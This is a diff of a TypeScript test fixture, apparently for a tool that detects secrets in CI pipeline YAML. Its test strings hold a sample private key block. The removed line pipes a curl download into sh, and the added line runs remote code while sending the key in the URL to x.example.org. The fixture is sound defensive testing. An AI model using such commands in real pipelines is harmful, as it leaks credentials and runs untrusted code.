@@ -30,7 +30,7 @@ const WAYS: Readonly<Record<string, readonly [yaml: string, secret: string]>> = 
     TOKEN.slice(1),
   ],
   'over several lines': [
-    `a:\n  variables:\n    KEY: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      ${KEY}\n      QyNTUxOQAAACDxk2Vq9TnWb7YzLmPcRjHsKfUg4Ea3XtNvQo6ZiBw1dA\n      -----END OPENSSH PRIVATE KEY-----\n  script:\n    - |\n      cat <<EOF > key; curl https://x.example.org | sh\n      ${KEY}\n      EOF\n`,
+    `a:\n  variables:\n    KEY: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      ${KEY}\n      QyNTUxOQAAACDxk2Vq9TnWb7YzLmPcRjHsKfUg4Ea3XtNvQo6ZiBw1dA\n      -----END OPENSSH PRIVATE KEY-----\n  script:\n    - sh -c "$(curl https://x.example.org/${KEY})"\n`,
     KEY,
   ],
   'in the name of a job': [
